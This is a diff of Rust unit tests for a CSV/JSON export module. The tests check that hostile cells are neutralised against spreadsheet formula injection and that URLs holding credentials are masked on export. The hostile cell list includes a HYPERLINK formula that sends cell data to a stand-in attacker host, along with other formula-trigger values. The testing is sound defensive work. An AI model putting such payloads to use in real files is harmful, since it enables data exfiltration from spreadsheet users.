@@ -122,6 +122,51 @@ mod tests {
     }
 
     #[test]
+    fn csv_cells_cannot_run_as_formulas_and_still_read_back_exactly() {
+        let hostile = [
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+            "+1",
+            "-x",
+            "@SUM(A1:A9)",
+            "\tTabbed",
+            "\rReturn",
+            "'quoted",
+            "''twice",
+            "'",
+            "plain, \"with\" commas",
+        ];
+        let mut rows = Vec::new();
+        for (i, label) in hostile.iter().enumerate() {
+            let mut row = instance(&format!("i{i}"), None);
+            row.label = Some((*label).to_string());
+            row.probe = vec!["-v".into(), "=cmd".into()];
+            row.token = Some(format!("-{label}"));
+            rows.push(row);
+        }
+        let csv = String::from_utf8(write_csv(&rows).expect("csv")).expect("utf-8");
+        let mut reader = ::csv::Reader::from_reader(csv.as_bytes());
+        for record in reader.records() {
+            for cell in record.expect("a record").iter() {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{cell:?} would run in a spreadsheet"
+                );
+            }
+        }
+        let back = rows_of(parse(&csv, Format::Csv).expect("parse"));
+        assert_eq!(back, rows, "every cell reads back exactly");
+        let again = String::from_utf8(write_csv(&back).expect("csv")).expect("utf-8");
+        assert_eq!(again, csv, "export, import, export is the identity");
+        // A quote typed by hand is the spreadsheet's text marker.
+        let typed = parse(
+            "type,ref,api,url,label\ninstance,x,ping,http://x/,'=1\n",
+            Format::Csv,
+        )
+        .expect("parse");
+        assert_eq!(rows_of(typed)[0].label.as_deref(), Some("=1"));
+    }
+
+    #[test]
     fn a_left_out_token_is_absent_in_json_and_empty_in_csv() {
         let mut row = host("srv1");
         row.token = None;
@@ -251,6 +296,26 @@ mod tests {
         rows[0].token = Some("new".into());
         let plan = super::plan(parsed(&rows), &existing).expect("valid");
         assert_eq!(plan[0].changed, ["token"]);
+    }
+
+    #[test]
+    fn a_url_masked_by_export_keeps_the_stored_one_and_is_refused_without_it() {
+        let mut stored = host("srv1");
+        stored.url = Some("https://admin:pw@srv1.example.com/manager.php?api_key=k".into());
+        let mut exported = stored.clone();
+        exported.token = None;
+        exported.url = exported.url.as_deref().map(crate::domain::secret::redact);
+        assert_eq!(
+            exported.url.as_deref(),
+            Some("https://admin:***@srv1.example.com/manager.php?api_key=***")
+        );
+        let plan = plan(parsed(std::slice::from_ref(&exported)), &[stored.clone()]).expect("valid");
+        assert_eq!(plan[0].action, Action::Unchanged);
+        assert_eq!(plan[0].row.url, stored.url, "the stored URL stands");
+
+        let problems = super::plan(parsed(&[exported]), &[]).expect_err("nothing to unmask");
+        assert!(problems[0].message.contains("masked"), "{problems:?}");
+        assert!(!problems[0].message.contains("pw"), "{problems:?}");
     }
 
     #[test]
